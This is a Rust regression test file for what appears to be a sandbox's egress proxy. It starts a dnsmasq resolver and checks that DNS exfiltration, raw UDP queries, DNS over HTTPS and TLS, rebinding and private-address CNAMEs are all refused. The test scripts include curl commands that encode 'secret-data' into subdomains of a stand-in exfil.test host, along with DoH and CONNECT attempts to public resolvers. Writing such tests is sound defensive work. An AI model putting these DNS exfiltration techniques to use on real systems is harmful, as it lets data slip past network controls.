//! The DNS cases of the egress regression suite, against a real resolver: dnsmasq on a loopback
//! address of the host, whose query log shows exactly what the proxy looked up (exfiltration
//! through the resolver, raw UDP, DNS over HTTPS or TLS, rebinding, a CNAME to a private
//! address).

use super::*;

/// A real resolver for the proxy: dnsmasq on `127.53.0.<index>:53` in the host's network
/// namespace, answering only what the test configures, logging every query it gets.
struct Dns {
    child: Child,
    address: String,
    log: PathBuf,
    _dir: tempfile::TempDir,
}

impl Dns {
    /// Starts dnsmasq with extra `options` (such as `--host-record=a.test,192.0.3.2`), or
    /// says why it cannot (the test then skips).
    fn start(index: u8, options: &[String]) -> Option<Self> {
        let Some(binary) = ["/usr/sbin/dnsmasq", "/usr/bin/dnsmasq", "/sbin/dnsmasq"]
            .into_iter()
            .find(|path| std::path::Path::new(path).is_file())
        else {
            skip("dnsmasq is not installed (scripts/test.sh installs Debian's dnsmasq-base)");
            return None;
        };
        let dir = tempfile::tempdir().unwrap();
        let log = dir.path().join("queries.log");
        let address = format!("127.53.0.{index}");
        let child = Command::new(binary)
            .args([
                "--no-daemon",
                "--no-resolv",
                "--no-hosts",
                "--bind-interfaces",
                "--port=53",
                "--user=root",
                "--log-queries",
                "--local=/test/",
                "--local-ttl=0",
            ])
            .arg(format!("--listen-address={address}"))
            .arg(format!("--log-facility={}", log.display()))
            .arg(format!("--pid-file={}", dir.path().join("pid").display()))
            .args(options)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .ok()?;
        let mut dns = Self {
            child,
            address,
            log,
            _dir: dir,
        };
        let deadline = Instant::now() + Duration::from_secs(5);
        while !dns.answers() {
            if Instant::now() > deadline || dns.child.try_wait().ok().flatten().is_some() {
                skip(&format!(
                    "dnsmasq did not start on `{}:53`: {}",
                    dns.address,
                    std::fs::read_to_string(&dns.log).unwrap_or_default()
                ));
                return None;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        Some(dns)
    }

    /// Whether it answers a query (for `ready.probe`, which `queries` leaves out).
    fn answers(&self) -> bool {
        let socket = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
        socket
            .set_read_timeout(Some(Duration::from_millis(200)))
            .unwrap();
        let mut query = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
        for label in ["ready", "probe"] {
            query.push(label.len() as u8);
            query.extend_from_slice(label.as_bytes());
        }
        query.extend_from_slice(&[0, 0, 1, 0, 1]);
        let mut reply = [0_u8; 512];
        socket.send_to(&query, (self.address.as_str(), 53)).is_ok()
            && socket.recv(&mut reply).is_ok()
    }

    /// The `resolv.conf` that points at it.
    fn resolv_conf(&self) -> String {
        format!(
            "nameserver {}\noptions attempts:1 timeout:1\n",
            self.address
        )
    }

    /// Every name it was asked about, in order.
    fn queries(&self) -> Vec<String> {
        std::fs::read_to_string(&self.log)
            .unwrap_or_default()
            .lines()
            .filter_map(|line| {
                let (_, rest) = line.split_once("query[")?;
                let (_, rest) = rest.split_once("] ")?;
                rest.split_whitespace().next().map(str::to_string)
            })
            .filter(|name| name != "ready.probe")
            .collect()
    }

    /// The answers it gave from its own records for `name` (`config <name> is <answer>`).
    fn answers_for(&self, name: &str) -> Vec<String> {
        let marker = format!("config {name} is ");
        std::fs::read_to_string(&self.log)
            .unwrap_or_default()
            .lines()
            .filter_map(|line| Some(line.split_once(&marker)?.1.to_string()))
            .collect()
    }

    fn pid(&self) -> String {
        self.child.id().to_string()
    }
}

impl Drop for Dns {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

#[test]
fn dns_exfiltration_through_the_proxys_resolver_never_queries_a_denied_name() {
    let world = World::create(46);
    let Some(dns) = Dns::start(
        1,
        &[format!("--host-record=allowed.dns.test,{}", world.address)],
    ) else {
        return;
    };
    let escape = Escape::new();
    let script = "curl -s http://allowed.dns.test:8080/hello.txt; \
         curl -s -o /dev/null -w \"%{http_code} \" http://c2VjcmV0LWRhdGE.exfil.test/; \
         curl -s -o /dev/null -w \"%{http_connect}\" https://chunk-2.c2VjcmV0.exfil.test/";
    let outcome = run_with_resolver(
        &escape,
        "",
        Some(&dns.resolv_conf()),
        &["net.outbound:allowed.dns.test:8080"],
        script,
    );
    assert_eq!(
        outcome.stdout(),
        "origin-says-hi\n403 403",
        "{}",
        outcome.stderr()
    );
    // The resolver was asked about the allowed name and about nothing else.
    let queries = dns.queries();
    assert!(
        queries.iter().any(|name| name == "allowed.dns.test"),
        "{queries:?}"
    );
    assert!(
        queries.iter().all(|name| name == "allowed.dns.test"),
        "{queries:?}"
    );
    assert_eq!(
        denied_hosts(&outcome),
        vec!["c2VjcmV0LWRhdGE.exfil.test", "chunk-2.c2VjcmV0.exfil.test"]
    );
    let egress = outcome.egress();
    assert_eq!(egress.len(), 3, "{egress:#?}");
    assert_eq!(egress[0]["decision"], "allow");
    assert_eq!(egress[0]["data"]["resolved"], world.address.as_str());
    for record in &egress[1..] {
        assert!(record["data"]["resolved"].is_null(), "{record}");
        let reason = record["reason"].as_str().unwrap_or_default();
        assert!(
            reason.ends_with("is not in this run's net.outbound scopes"),
            "{reason}"
        );
    }
    outcome.finished();
}

#[test]
fn raw_udp_to_a_resolver_is_unreachable() {
    let world = World::create(47);
    let Some(dns) = Dns::start(2, &[]) else {
        return;
    };
    let escape = Escape::new();
    let code = format!(
        "import socket\n\
         q = bytes([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]) + b\"\\x04leak\\x03udp\\x04test\\x00\\x00\\x01\\x00\\x01\"\n\
         for a in [(\"{dns}\", 53), (\"{world}\", 53), (\"8.8.8.8\", 53)]:\n\
         \x20 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)\n\
         \x20 try:\n\
         \x20   s.sendto(q, a); s.recv(512); print(\"ANSWERED\")\n\
         \x20 except OSError as e: print(type(e).__name__, e.errno)",
        dns = dns.address,
        world = world.address
    );
    let outcome = escape.run(&["net.outbound:allowed.example.org"], &python(&code));
    // Inside, the resolver's loopback address is the sandbox's own (nothing listens, nothing
    // answers); the others have no route.
    assert_eq!(
        outcome.stdout(),
        "TimeoutError None\nOSError 101\nOSError 101\n",
        "{}",
        outcome.stderr()
    );
    assert!(
        !dns.queries().iter().any(|name| name.contains("leak")),
        "{:?}",
        dns.queries()
    );
    assert!(outcome.egress().is_empty(), "{:#?}", outcome.egress());
    outcome.finished();
}

#[test]
fn dns_over_https_and_tls_to_public_resolvers_is_refused() {
    let escape = Escape::new();
    let script = format!(
        "curl -s -o /dev/null -w \"%{{http_connect}} \" \"https://1.1.1.1/dns-query?name=x.exfil.test\"; \
         curl -s -o /dev/null -w \"%{{http_connect}} \" \"https://dns.google/resolve?name=x.exfil.test\"; \
         {}; {}; \
         python3 -c 'import socket\ntry:\n  socket.create_connection((\"8.8.8.8\", 853), 2); print(\"CONNECTED\")\nexcept OSError as e: print(e.errno)'",
        raw_request("b\"CONNECT 9.9.9.9:853 HTTP/1.1\\r\\n\\r\\n\""),
        raw_request("b\"CONNECT [2606:4700:4700::1111]:853 HTTP/1.1\\r\\n\\r\\n\"")
    );
    let outcome = escape.run(&["net.outbound:allowed.example.org"], &script);
    assert_eq!(
        outcome.stdout(),
        "403 403 HTTP/1.1 403 Forbidden\nHTTP/1.1 403 Forbidden\n101\n",
        "{}",
        outcome.stderr()
    );
    assert_eq!(
        denied_hosts(&outcome),
        vec!["1.1.1.1", "dns.google", "9.9.9.9", "[2606:4700:4700::1111]"]
    );
    let ports: Vec<&Value> = outcome
        .egress()
        .iter()
        .map(|r| &r["data"]["port"])
        .collect();
    assert_eq!(ports, vec![443, 443, 853, 853]);
    outcome.finished();
}

#[test]
fn dns_rebinding_through_a_real_resolver_is_refused() {
    let world = World::create(48);
    let hosts_file = world._root.path().join("rebind.hosts");
    std::fs::write(&hosts_file, format!("{} rebind.dns.test\n", world.address)).unwrap();
    let Some(dns) = Dns::start(
        3,
        &[
            format!("--addn-hosts={}", hosts_file.display()),
            // One name with a public and a private answer at once.
            format!("--host-record=both.dns.test,{}", world.address),
            "--host-record=both.dns.test,10.0.0.7".to_string(),
        ],
    ) else {
        return;
    };
    let escape = Escape::new();
    // The first request finds the public address; then (while the run goes on) the name is
    // rebound to a private one, and the next request is refused.
    let script = "curl -s -o /dev/null -w \"%{http_code} \" http://rebind.dns.test:8080/hello.txt; \
         touch rebind-now; while [ ! -e rebound ]; do sleep 0.1; done; \
         curl -s -o /dev/null -w \"%{http_code} \" http://rebind.dns.test:8080/hello.txt; \
         curl -s -o /dev/null -w \"%{http_code}\" http://both.dns.test:8080/hello.txt";
    let work = escape.work.clone();
    let rebinder = std::thread::spawn({
        let hosts_file = hosts_file.clone();
        let pid = dns.pid();
        let log = dns.log.clone();
        move || {
            let deadline = Instant::now() + Duration::from_secs(30);
            while !work.join("rebind-now").exists() {
                assert!(
                    Instant::now() < deadline,
                    "the run never asked for the rebind"
                );
                std::thread::sleep(Duration::from_millis(20));
            }
            let reads = || {
                std::fs::read_to_string(&log)
                    .unwrap_or_default()
                    .matches("read ")
                    .count()
            };
            let before = reads();
            std::fs::write(&hosts_file, "10.0.0.7 rebind.dns.test\n").unwrap();
            assert!(
                Command::new("kill")
                    .args(["-HUP", &pid])
                    .status()
                    .unwrap()
                    .success()
            );
            while reads() == before {
                assert!(
                    Instant::now() < deadline,
                    "dnsmasq never re-read its hosts file"
                );
                std::thread::sleep(Duration::from_millis(20));
            }
            std::fs::write(work.join("rebound"), "").unwrap();
        }
    });
    let scopes = [
        "files.write",
        "net.outbound:rebind.dns.test:8080",
        "net.outbound:both.dns.test:8080",
    ];
    let outcome = run_with_resolver(&escape, "", Some(&dns.resolv_conf()), &scopes, script);
    rebinder.join().unwrap();
    assert_eq!(outcome.stdout(), "200 403 403", "{}", outcome.stderr());
    // The resolver really gave the name both a public and a private address.
    let both = dns.answers_for("both.dns.test");
    assert!(
        both.contains(&world.address) && both.contains(&"10.0.0.7".to_string()),
        "{both:?}"
    );
    let egress = outcome.egress();
    assert_eq!(egress.len(), 3, "{egress:#?}");
    assert_eq!(egress[0]["decision"], "allow");
    assert_eq!(egress[0]["data"]["resolved"], world.address.as_str());
    for record in &egress[1..] {
        assert_eq!(record["decision"], "deny");
        assert!(record["data"]["resolved"].is_null(), "{record}");
        let reason = record["reason"].as_str().unwrap_or_default();
        assert!(reason.contains("resolves to 10.0.0.7: private"), "{reason}");
    }
    outcome.finished();
}

#[test]
fn cname_to_a_private_address_is_refused() {
    let Some(dns) = Dns::start(
        4,
        &[
            "--host-record=db.internal.test,10.0.0.5".to_string(),
            "--cname=cdn.dns.test,db.internal.test".to_string(),
        ],
    ) else {
        return;
    };
    let escape = Escape::new();
    let outcome = run_with_resolver(
        &escape,
        "",
        Some(&dns.resolv_conf()),
        &["net.outbound:cdn.dns.test:8080"],
        &curl_status("http://cdn.dns.test:8080/"),
    );
    let stdout = outcome.stdout();
    assert!(stdout.starts_with("403"), "{stdout} {}", outcome.stderr());
    assert!(
        dns.queries().iter().any(|name| name == "cdn.dns.test"),
        "{:?}",
        dns.queries()
    );
    let egress = outcome.egress();
    assert_eq!(egress.len(), 1, "{egress:#?}");
    assert_eq!(egress[0]["decision"], "deny");
    assert_eq!(egress[0]["data"]["host"], "cdn.dns.test");
    assert_eq!(
        egress[0]["reason"],
        "egress to `cdn.dns.test:8080` resolves to 10.0.0.5: private network `10.0.0.0/8`"
    );
    outcome.finished();
}
